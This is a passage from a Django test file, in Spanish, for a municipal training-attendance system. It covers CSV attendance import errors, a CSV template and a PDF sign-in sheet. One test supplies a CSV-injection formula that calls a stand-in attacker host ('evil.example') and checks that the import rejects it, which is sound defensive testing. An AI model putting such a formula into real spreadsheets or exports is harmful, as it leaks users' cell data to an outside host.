        response = client_for(regional).post(asistencia_url(sesion, "importar/"), {"archivo": csv(contenido)})
        assert response.status_code == 400
        body = response.content.decode()
        assert [(e.fila, e.mensaje) for e in response.context["errores_csv"]] == [
            (3, "«pedro@independencia.cl» no está inscrito/a en la capacitación"),
            (5, "estado «tarde» inválido (use presente, atrasado, justificado o ausente)"),
        ]
        assert "Fila 3: «pedro@independencia.cl» no está inscrito/a en la capacitación" in body
        assert "Fila 5: estado «tarde» inválido" in body
        assert "Fila 2" not in body
        assert "Fila 4" not in body
        assert "El archivo tiene 2 fila(s) con errores; no se importó nada." in body
        assert estado_de_todo() == antes
        assert not Asistencia.objects.exists()

    def test_a_latin1_file_gets_the_encoding_message(self, regional, cap_rm, dos) -> None:
        sesion = pasada(cap_rm)
        contenido = "correo;estado\nana@independencia.cl;presente\nluis@independencia.cl;ausente # Muñoz\n"
        response = client_for(regional).post(
            asistencia_url(sesion, "importar/"), {"archivo": csv(contenido, encoding="latin-1")}
        )
        assert response.status_code == 400
        assert "El archivo no está en UTF-8. Guárdelo como «CSV UTF-8»" in response.content.decode()
        assert not Asistencia.objects.exists()

    def test_a_formula_is_reported(self, regional, cap_rm, dos) -> None:
        sesion = pasada(cap_rm)
        contenido = (
            'correo;estado\nana@independencia.cl;presente\n=HYPERLINK("http://evil.example/?x="&A1;"clic");presente\n'
        )
        response = client_for(regional).post(asistencia_url(sesion, "importar/"), {"archivo": csv(contenido)})
        assert response.status_code == 400
        assert [(e.fila, e.mensaje) for e in response.context["errores_csv"]] == [
            (3, "contiene una fórmula o un valor no permitido")
        ]
        assert "Fila 3: contiene una fórmula o un valor no permitido" in response.content.decode()
        assert not Asistencia.objects.exists()

    @pytest.mark.parametrize(
        ("archivo", "mensaje"),
        [
            (None, "Este campo es requerido"),
            (csv("nombre;asistio\nAna;si\n"), "El archivo debe tener las columnas «correo» y «estado»"),
            (csv("correo;estado\n"), "El archivo no tiene filas con asistencia."),
            (csv(""), "El archivo debe tener las columnas"),
            (SimpleUploadedFile("g.csv", b"x" * (1024 * 1024 + 1)), "El archivo supera 1 MB."),
        ],
    )
    def test_unusable_files_are_refused_in_spanish(self, regional, cap_rm, dos, archivo, mensaje) -> None:
        datos = {} if archivo is None else {"archivo": archivo}
        response = client_for(regional).post(asistencia_url(pasada(cap_rm), "importar/"), datos)
        assert response.status_code == 400
        assert mensaje in response.content.decode()
        assert not Asistencia.objects.exists()

    def test_the_page_documents_the_template_and_the_template_imports(self, regional, cap_rm, dos) -> None:
        client = client_for(regional)
        body = client.get(asistencia_url(pasada(cap_rm))).content.decode()
        assert reverse("capacitaciones:plantilla_asistencia") in body
        assert "<code>correo</code> y <code>estado</code>" in body
        assert 'enctype="multipart/form-data"' in body
        plantilla = client.get(reverse("capacitaciones:plantilla_asistencia"))
        assert plantilla.status_code == 200
        assert plantilla["Content-Type"] == "text/csv; charset=utf-8"
        assert plantilla["Content-Disposition"] == 'attachment; filename="plantilla-asistencia.csv"'
        texto = plantilla.content.decode("utf-8-sig")
        assert texto.splitlines() == ["correo;estado", "ana.perez@municipalidad.cl;presente"]
        # The template filled in with the training's participants imports as is.
        relleno = texto.replace("ana.perez@municipalidad.cl", "ana@independencia.cl").encode("utf-8-sig")
        response = client.post(
            asistencia_url(pasada(cap_rm), "importar/"), {"archivo": SimpleUploadedFile("p.csv", relleno)}
        )
        assert response.status_code == 302
        assert Asistencia.objects.get().estado == "presente"

    def test_the_template_needs_a_session(self, persona) -> None:
        url = reverse("capacitaciones:plantilla_asistencia")
        assert al_login(client_for(None).get(url))
        assert como(persona, "municipal").get(url).status_code == 200


# --- Paper sign-in sheet ------------------------------------------------------------------------
class TestHojaAsistencia:
    def test_the_sheet_lists_the_registered_participants_with_a_signature_column(
        self, regional, cap_rm, dos, tmp_path
    ) -> None:
        inscripcion(cap_rm, "Persona En Espera", "espera@x.cl", estado=EstadoInscripcion.LISTA_ESPERA)
        sesion = pasada(cap_rm)
        response = client_for(regional).get(reverse("capacitaciones:hoja_asistencia", kwargs={"pk": sesion.pk}))
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"].startswith('attachment; filename="hoja-asistencia-')
        assert response["Cache-Control"] == "private, no-store"
        assert response.content.startswith(b"%PDF-")
        texto = pdf_texto(response.content, tmp_path)
        assert "Hoja de asistencia" in texto
        assert "Capacitación regional RM" in texto
        assert "Ana Pérez" in texto
        assert "Luis Soto" in texto
        assert "Firma" in texto
        assert "Persona En Espera" not in texto  # not registered (waiting list)
        assert "Sello Migrante · SERMIG" in texto  # the margin box, with its own font
        fuentes = subprocess.run(
            ["pdffonts", str(tmp_path / "hoja.pdf")], capture_output=True, check=True, text=True
        ).stdout
        assert "DejaVu-Sans" in fuentes
